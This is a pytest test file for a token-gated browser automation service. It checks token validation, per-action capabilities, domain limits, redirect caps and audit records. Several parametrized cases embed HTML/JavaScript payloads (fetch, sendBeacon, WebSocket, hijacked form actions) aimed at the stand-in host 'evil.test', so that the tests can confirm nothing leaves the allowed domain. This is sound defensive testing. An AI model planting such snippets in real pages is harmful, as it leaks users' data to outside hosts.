"""Who may do what, where: refused before a browser is touched, and recorded all the same."""

import json
import threading
from datetime import timedelta
from typing import Any

import pytest

from remit.authority.capability_token import TokenRequest
from remit.browser.policy import CAPABILITY_OF
from remit.browser.proxy.addresses import Endpoint as UpstreamPlace
from remit.browser.proxy.stream import ByteStream
from remit.browser.proxy.upstream import Upstream
from remit.contracts.browser.browser import ActionResult, TokenConstraints
from tests.browser.service.browser_workspace import Place
from tests.support.browser_site import Reply, redirect

PAGE = "<title>Shop</title><h1>Hello</h1>"


def code_of(result: ActionResult) -> str:
    return result.error.code if result.error is not None else "success"


@pytest.mark.req("VX-01", "VX-10", "VX-11", "VX-14")
@pytest.mark.parametrize("token", ["", "not.a.token", "äöü", "e30.e30.e30", "x" * 50_000])
def test_a_token_that_is_none_is_refused_and_recorded(place: Place, token: str) -> None:
    result = place.do(place.action("navigate"), token=token)
    assert code_of(result) == "TOKEN_INVALID"
    assert place.refusals
    audit = place.payloads("browser.action")[-1]
    assert (audit["success"], audit["agentId"], audit["tokenJti"]) == (False, "unknown", "unknown")
    assert place.site.log == []


@pytest.mark.req("VX-01", "VX-02")
def test_an_expired_and_a_revoked_token_have_codes_of_their_own(place: Place) -> None:
    place.workspace.tokens.revoke(place.workspace.tokens.verify(place.token).jti, actor="os:somebody")
    assert code_of(place.do(place.action("navigate"))) == "TOKEN_REVOKED"
    place.issue()
    place.clock.offset += timedelta(days=3)  # and never back: the ledger would not believe it
    assert code_of(place.do(place.action("navigate"))) == "TOKEN_EXPIRED"


@pytest.mark.req("VX-03", "VX-14")
@pytest.mark.parametrize("kind", CAPABILITY_OF)
def test_each_action_needs_its_own_capability(place: Place, kind: Any) -> None:
    place.issue(caps=tuple(capability for name, capability in CAPABILITY_OF.items() if name != kind))
    needs: dict[str, dict[str, Any]] = {
        "click": {"selector": "#a"},
        "type": {"selector": "#a", "value": "x"},
        "submit": {"selector": "#a"},
        "purchase": {"selector": "#a", "amount": {"value": 1, "currency": "EUR"}},
    }
    result = place.do(place.action(kind, **needs.get(kind, {})))
    assert result.error is not None
    assert result.error.tree() == {"code": "CAPABILITY_MISSING", "required": CAPABILITY_OF[kind]}
    audit = place.payloads("browser.action")[-1]
    assert (audit["action"], audit["success"], audit["agentId"]) == (kind, False, "agent-1")
    assert audit["tokenJti"] == place.workspace.tokens.verify(place.token).jti


@pytest.mark.req("VX-04", "VX-14")
def test_another_host_is_refused_before_anything_is_looked_up(place: Place) -> None:
    action = {"action_id": "elsewhere", "type": "navigate", "target": place.site.url(host="evil.test")}
    result = place.do(json.dumps(action).encode())
    assert result.error is not None
    assert result.error.tree() == {"code": "CONSTRAINT_VIOLATED", "constraint": "domains"}
    assert str(result.reason).startswith("Domain not allowed: the token allows shop.test, and not evil.test. ")
    assert [seen for seen in place.site.log if seen.host == "evil.test"] == []


@pytest.mark.req("VX-04")
@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="refresh" content="0;url={evil}">',
        '<script>location = "{evil}"</script>',
        '<iframe src="{evil}"></iframe>',
        '<img src="{evil}"><link rel="stylesheet" href="{evil}"><script src="{evil}"></script>',
        '<script>fetch("{evil}", {{mode: "no-cors"}}); new WebSocket("{evil}".replace("http", "ws"))</script>',
        '<form id="f" method="post" action="{evil}"></form><script>f.submit()</script>',
        '<script>open("{evil}"); navigator.sendBeacon("{evil}", "x"); new Image().src = "{evil}"</script>',
        '<link rel="prefetch" href="{evil}"><a href="{evil}" id="a">x</a><script>a.click()</script>',
    ],
)
def test_nothing_of_a_page_reaches_a_host_that_the_token_does_not_name(place: Place, html: str) -> None:
    place.open(PAGE + html.format(evil=place.site.url("/x", host="evil.test")))
    place.do(place.action("navigate", "/"))  # whatever was on its way has been turned away by now
    place.open(PAGE, "/calm")
    assert [seen for seen in place.site.log if seen.host == "evil.test"] == []


@pytest.mark.req("VX-04", "VX-06")
@pytest.mark.parametrize("kind", ["click", "submit"])
@pytest.mark.parametrize(
    "html",
    [
        '<form method="post" action="{evil}"><button id="go">go</button></form>',
        '<form method="post" action="/act"><button id="go" formaction="{evil}">go</button></form>',
        '<form method="post" action="/act"><button id="go" onclick="form.action = \'{evil}\'">go</button></form>',
    ],
)
def test_a_form_that_leads_to_another_host_sends_nothing_and_requests_no_approval(
    place: Place, html: str, kind: str
) -> None:
    place.open(PAGE + html.format(evil=place.site.url("/x", host="evil.test")))
    result = place.do(place.action(kind, selector="#go"))
    assert str(result.reason).startswith("Domain not allowed: the token allows shop.test, and not evil.test. ")
    assert code_of(result) == "CONSTRAINT_VIOLATED"
    assert place.asked == []
    assert place.site.posts() == []


@pytest.mark.req("VX-04")
@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_to_another_host_ends_there(place: Place, status: int) -> None:
    place.site.routes["/away"] = redirect(status, place.site.url("/x", host="evil.test"))
    result = place.do(place.action("navigate", "/away"))
    assert str(result.reason).startswith("Domain not allowed: the token allows shop.test, and not evil.test. ")
    assert [seen.host for seen in place.site.log if seen.path != "/favicon.ico"] == ["shop.test"]
    assert place.payloads("browser.action")[-1]["turned_away"]


@pytest.mark.req("VX-04", "VX-14")
@pytest.mark.parametrize(
    "html",
    [
        '<a id="go" href="{evil}">go</a>',
        '<a id="go" href="/away">go</a>',
        '<button id="go" onclick="location = \'{evil}\'">go</button>',
    ],
)
def test_a_click_that_would_lead_to_another_host_fails_and_leaves_the_page_usable(place: Place, html: str) -> None:
    evil = place.site.url("/x", host="evil.test")
    place.site.routes["/away"] = redirect(302, evil)
    place.open(PAGE + f'<img src="{evil}"><p id="rest">' + html.format(evil=evil))
    result = place.click()
    assert result.error is not None
    assert result.error.tree() == {"code": "CONSTRAINT_VIOLATED", "constraint": "domains"}
    assert "not evil.test" in str(result.reason)
    assert place.click("#rest").success  # a picture from there is no reason to fail
    assert [seen for seen in place.site.log if seen.host == "evil.test"] == []
    assert place.sleeps == []


@pytest.mark.req("VX-12", "VX-14")
def test_what_names_no_element_ever_is_not_tried_again_and_says_what_to_do(place: Place) -> None:
    place.open(PAGE + "<p id=a>one</p><p>two</p>")
    hopeless: list[tuple[str, dict[str, Any]]] = [
        ("click", {"selector": "p["}),
        ("click", {"selector": "p"}),
        ("click", {"ref": "e999"}),
        ("submit", {"selector": "#a"}),
        ("type", {"selector": "#a", "value": "x"}),
    ]
    for kind, named in hopeless:
        result = place.do(place.action(kind, **named))
        assert code_of(result) == "ELEMENT_NOT_FOUND"
        assert ". " in str(result.reason)  # what, and what to do
    assert place.sleeps == []


def test_a_chain_of_redirects_has_an_end(place: Place) -> None:
    place.site.routes |= {f"/{number}": redirect(302, f"/{number + 1}") for number in range(1, 26)}
    result = place.do(place.action("navigate", "/1"))
    assert not result.success
    assert "/25" not in {seen.path for seen in place.site.log}
    assert len([seen for seen in place.site.log if seen.path != "/favicon.ico"]) <= 20


@pytest.mark.req("VX-02")
def test_a_token_that_is_revoked_ends_its_session_at_once(place: Place) -> None:
    place.site.routes["/later"] = "later"
    page = PAGE + '<script>setInterval(() => fetch("/tick?" + Math.random()), 50)</script>'
    place.open(page)
    place.site.wait_until(lambda site: any(seen.path == "/tick" for seen in site.log))
    place.workspace.tokens.revoke(place.workspace.tokens.verify(place.token).jti, actor="os:somebody")
    place.site.log.clear()
    assert code_of(place.do(place.action("snapshot"))) == "TOKEN_REVOKED"
    jti = place.token
    place.issue()
    place.open(PAGE, "/calm")  # time for a few ticks, were there any
    assert [seen for seen in place.site.log if seen.path == "/tick"] == [], jti


@pytest.mark.req("VX-02", "VX-12")
def test_what_was_approved_is_not_sent_if_its_token_is_revoked_while_the_connection_is_made(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    place.site.routes["/act"] = "done"
    place.open('<form method="post" action="/act"><button id="go">Pay</button></form>')
    connect = Upstream.connect

    async def revoked_meanwhile(upstream: Upstream, to: UpstreamPlace, addresses: tuple[str, ...]) -> ByteStream:
        wire = await connect(upstream, to, addresses)
        place.workspace.tokens.revoke(place.workspace.tokens.verify(place.token).jti, actor="os:somebody")
        return wire

    monkeypatch.setattr(Upstream, "connect", revoked_meanwhile)
    result = place.click()
    assert (result.success, result.sent, place.site.posts()) == (False, 0, [])
    assert "revoked" in str(result.reason)
    assert place.payloads("browser_request.outcome")[-1]["outcome"]["state"] == "NOT_SENT"


def test_a_session_belongs_to_one_token_and_one_name(place: Place) -> None:
    place.open(PAGE)
    assert place.do(place.action("snapshot")).success
    other = place.do(place.action("snapshot", session="second"))
    assert "no page is open" in (other.reason or "")
    place.issue()
    assert "no page is open" in (place.do(place.action("snapshot")).reason or "")


@pytest.mark.req("VX-04")
def test_a_token_for_two_actions_allows_two(place: Place) -> None:
    place.issue(max_actions=2)
    assert place.open(PAGE).success
    assert place.do(place.action("snapshot")).success
    third = place.do(place.action("snapshot"))
    assert third.error is not None
    assert third.error.tree() == {"code": "CONSTRAINT_VIOLATED", "constraint": "max_actions"}


def test_the_same_action_again_gives_the_same_result_and_another_under_its_id_is_refused(place: Place) -> None:
    place.site.routes["/"] = PAGE
    action = place.action("navigate")
    first = place.do(action)
    place.site.log.clear()
    assert json.dumps(place.do(action).tree()) == json.dumps(first.tree()), "or in another order"
    assert place.site.log == []
    changed = json.dumps({**json.loads(action), "session": "x"}).encode()
    assert "different request" in (place.do(changed).reason or "")


def test_an_action_that_is_asked_for_twice_at_once_is_done_once(place: Place) -> None:
    place.site.routes["/act"] = "done"
    place.open('<form method="post" action="/act"><button id="go">go</button></form>')
    action = place.action("click", selector="#go")
    results: list[ActionResult] = []
    threads = [threading.Thread(target=lambda: results.append(place.do(action))) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert results[0].success
    assert results[0].canonical() == results[1].canonical()
    assert len(place.site.posts()) == 1
    assert len({question.approval.approval_id for question in place.asked}) == 1


@pytest.mark.req("VX-03", "VX-09")
def test_a_result_that_one_agent_received_is_not_returned_to_another(place: Place) -> None:
    place.open("<h1>private</h1>")
    asked = place.action("snapshot")
    assert place.do(asked).success
    assert place.do(asked).success  # his own, once more
    wish = TokenRequest(
        "agent-2", (CAPABILITY_OF["navigate"],), TokenConstraints(domains=("other.test",)), timedelta(hours=1)
    )
    result = place.do(asked, token=place.workspace.tokens.issue(wish).text)
    assert code_of(result) in {"CAPABILITY_MISSING", "KERNEL_ERROR"}
    assert result.output is None


@pytest.mark.req("VX-05", "VX-11")
def test_a_server_that_hangs_up_is_a_failure_that_says_so(place: Place) -> None:
    place.site.routes["/gone"] = Reply(raw=b"")
    result = place.do(place.action("navigate", "/gone"))
    assert code_of(result) == "KERNEL_ERROR"
    assert str(result.reason).startswith("the page did not load: ")
    assert place.sleeps == [1.0, 2.0, 4.0]
    place.site.routes["/gone"] = Reply(502, b"its own trouble", {"X-Remit": "failed"})
    assert place.do(place.action("navigate", "/gone")).success
